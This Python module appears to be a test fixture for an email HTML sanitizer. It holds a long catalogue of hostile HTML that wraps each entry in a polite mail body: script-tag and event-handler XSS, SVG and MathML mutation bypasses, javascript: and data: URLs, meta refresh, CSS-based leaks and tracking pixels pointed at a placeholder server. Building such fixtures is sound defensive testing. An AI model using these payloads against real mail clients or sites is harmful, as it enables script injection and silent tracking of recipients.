"""Shapes of hostile HTML, as mails bring them: what runs, and what calls home.

`{js}` is a script that would be noticed, `{away}` a server that counts who comes. They
are written for quotes of either kind around them.
"""

from typing import Final

JS: Final = (
    "window.pwned=1;try{top.pwned=1}catch(e){};console.log(`pwned`);alert(`pwned`)"
)

SCRIPTS: Final = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT >",
    "<script/x>{js}</script>",
    "<script src={away}/x.js></script>",
    '<script src="//{host}/x.js"></script>',
    '<script type="module">{js}</script>',
    '<script type="module" src="{away}/m.js"></script>',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script\x00>{js}</script>",
    "<script\n>{js}</script\n>",
    "<!--><script>{js}</script>-->",
    "<!-- --!><script>{js}</script>",
    '<noscript><p title="</noscript><script>{js}</script>"></noscript>',
    "<title><img src=x onerror='{js}'></title>",
    "<textarea><img title=\"</textarea><img src=x onerror='{js}'>\"></textarea>",
    "<style><img src=\"</style><img src=x onerror='{js}'>\"></style>",
    "<xmp><p title=\"</xmp><img src=x onerror='{js}'>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror='{js}'>\"></noembed>",
    "<template><script>{js}</script></template>",
    "<plaintext><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<script>{js}",
)
HANDLERS: Final = (
    "<img src=x onerror='{js}'>",
    '<img src=x ONERROR="{js}">',
    "<img/src=x/onerror='{js}'>",
    "<img src=x onerror\t=\n'{js}'>",
    "<img src='x\x00' onerror='{js}'>",
    "<img src=\"cid:logo\" onload='{js}'>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload='{js}' onerror='{js}'>",
    '<img """><script>{js}</script>">',
    "<img src=`x`onerror='{js}'>",
    "<body onload='{js}'>hello</body>",
    "<body onpageshow='{js}' onhashchange='{js}'>hello",
    "<div onmouseover='{js}' style='position:fixed;inset:0'>all</div>",
    "<input autofocus onfocus='{js}'>",
    "<a href=# onclick='{js}' autofocus onfocus='{js}' tabindex=0>x</a>",
    "<details open ontoggle='{js}'><summary>x</summary></details>",
    "<marquee onstart='{js}' loop=1>x</marquee>",
    "<video src=x onerror='{js}'></video>",
    "<video><source onerror='{js}' src=x></video>",
    "<audio src=x onerror='{js}'></audio>",
    "<style onload='{js}'></style>",
    "<link rel=stylesheet href=data:text/css, onload='{js}'>",
    "<p style='animation:x 1s' onanimationstart='{js}'>x</p><style>@keyframes x{}</style>",
    "<svg onload='{js}'></svg>",
    "<svg/onload='{js}'>",
    "<table background=x onerror='{js}'><td background=x>t</td></table>",
    "<isindex onfocus='{js}' autofocus>",
    "<form><button formaction='javascript:{js}' autofocus onfocus='{js}'>x</button></form>",
    "<dialog open onclose='{js}' onbeforetoggle='{js}'>x</dialog>",
)
FOREIGN: Final = (
    "<svg><script>{js}</script></svg>",
    "<svg><script href='data:text/javascript,{js}'/></svg>",
    "<svg><animate onbegin='{js}' attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to='{js}'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    "<svg><image href='{away}/svg.png' onload='{js}'/></svg>",
    "<svg><style>@import '{away}/svg.css';</style></svg>",
    "<svg></p><style><a title=\"</style><img src=x onerror='{js}'>\">",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x'
    " onerror='{js}'&gt;\">",
    "<math><annotation-xml encoding='text/html'><script>{js}</script></annotation-xml></math>",
    "<math href='javascript:{js}'>x</math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path title="</style>'
    "<img src=x onerror='{js}'>\">",
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
)
FRAMES: Final = (
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='{away}/frame.html'></iframe>",
    "<frameset onload='{js}'><frame src='{away}/frame.html'></frameset>",
    "<object data='javascript:{js}'></object>",
    "<object data='{away}/o.html' type='text/html'></object>",
    "<object type='text/html' data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='data:text/html,<script>{js}</script>'>",
    "<embed src='{away}/e.swf' type='application/x-shockwave-flash'>",
    "<applet code=x codebase='{away}/'></applet>",
    "<portal src='{away}/p'></portal>",
)
LINKS: Final = (
    "<a href='javascript:{js}'>click</a>",
    "<a href=' &#14; java&#x0A;script:{js}'>click</a>",
    "<a href='JaVaScRiPt&colon;{js}'>click</a>",
    "<a href='data:text/html,<script>{js}</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a href='x' ping='{away}/ping'>click</a>",
    "<a href='//{host}/x' target='_top'>click</a>",
    "<base href='javascript:/a/-{js}///'><a href='../x'>click</a>",
    "<base href='{away}/'><img src='relative.png'>",
    "<area shape=default href='javascript:{js}'>",
    "<form action='{away}/form' method=get><input name=q value=1><input type=submit></form>",
    "<form id=f action='javascript:{js}'></form><button form=f>x</button>",
)
HEAD: Final = (
    "<meta http-equiv=refresh content='0;url={away}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">"
    "<script>{js}</script>",
    "<meta http-equiv=set-cookie content='sessionid=evil'>",
    "<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<link rel=stylesheet href='{away}/s.css'>",
    "<link rel=prefetch href='{away}/prefetch'>",
    "<link rel=prerender href='{away}/prerender'>",
    "<link rel=preload as=image href='{away}/preload.png'>",
    "<link rel=modulepreload href='{away}/m.js'>",
    "<link rel=icon href='{away}/icon.png'>",
    "<link rel=manifest href='{away}/manifest.json'>",
    "<link rel=import href='{away}/import.html'>",
)
CSS: Final = (
    "<style>@import url({away}/a.css);</style>",
    "<style>@import '{away}/b.css';</style>",
    "<style>body{{background:url({away}/bg.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({away}/f.woff)}}p{{font-family:x}}</style><p>x",
    "<style>li{{list-style-image:url({away}/li.png)}}</style><ul><li>x</ul>",
    "<style>a[href^='h']{{content:url({away}/leak)}}</style><a href='https://x'>x</a>",
    "<p style='background:url({away}/inline.png)'>x</p>",
    "<p style='background-image:\\75rl({away}/escaped.png)'>x</p>",
    "<p style='background:url(\"javascript:{js}\")'>x</p>",
    "<p style='width:expression({js})'>x</p>",
    "<p style='-moz-binding:url({away}/x.xml#x);behavior:url({away}/x.htc)'>x</p>",
    "<p style='cursor:url({away}/c.cur),auto;content:url({away}/c.png)'>x</p>",
    "<p style=\"background:image-set('{away}/set.png' 1x)\">x</p>",
    "<p style='--x:url({away}/var.png);background:var(--x)'>x</p>",
    "<p style='mask:url({away}/m.svg#m);filter:url({away}/f.svg#f)'>x</p>",
)
PIXELS: Final = (
    "<img src='{away}/pixel.png' width=1 height=1>",
    "<img src='//{host}/pixel.png'>",
    "<img src='\n{away}/newline.png'>",
    "<img src='/\\{host}/backslash.png'>",
    "<img srcset='{away}/set.png 1x, {away}/set2.png 2x' src=x>",
    "<img src=x longdesc='{away}/long' lowsrc='{away}/low.png' dynsrc='{away}/dyn.png'>",
    "<picture><source srcset='{away}/picture.png'><img src=x></picture>",
    "<input type=image src='{away}/input.png'>",
    "<table background='{away}/table.png'><td background='{away}/td.png'>x</table>",
    "<body background='{away}/body.png'>x</body>",
    "<video poster='{away}/poster.png' src='{away}/v.mp4' autoplay></video>",
    "<video><source src='{away}/v.webm'><track default src='{away}/t.vtt'></video>",
    "<audio src='{away}/a.mp3' autoplay preload=auto></audio>",
    "<bgsound src='{away}/b.wav'>",
    "<object data='{away}/o.png'></object>",
    "<blockquote cite='{away}/cite'>x</blockquote><q cite='{away}/q'>x</q>",
    "<img src='cid:logo' srcset='{away}/cid.png'>",
    "<image src='{away}/image.png'>",
    "<img src='http://user:word@{host}/auth.png'>",
)
ALL: Final = (
    *SCRIPTS,
    *HANDLERS,
    *FOREIGN,
    *FRAMES,
    *LINKS,
    *HEAD,
    *CSS,
    *PIXELS,
)


def hostile(away: str) -> list[str]:
    """Every shape, aimed at `away` (an address without a slash at its end)."""
    host = away.partition("://")[2]
    words = {"{js}": JS, "{away}": away, "{host}": host, "{{": "{", "}}": "}"}
    found = []
    for shape in ALL:
        for mark, said in words.items():
            shape = shape.replace(mark, said)
        found.append(f"<p>Dear team,</p>{shape}<p>Kind regards</p>")
    return found
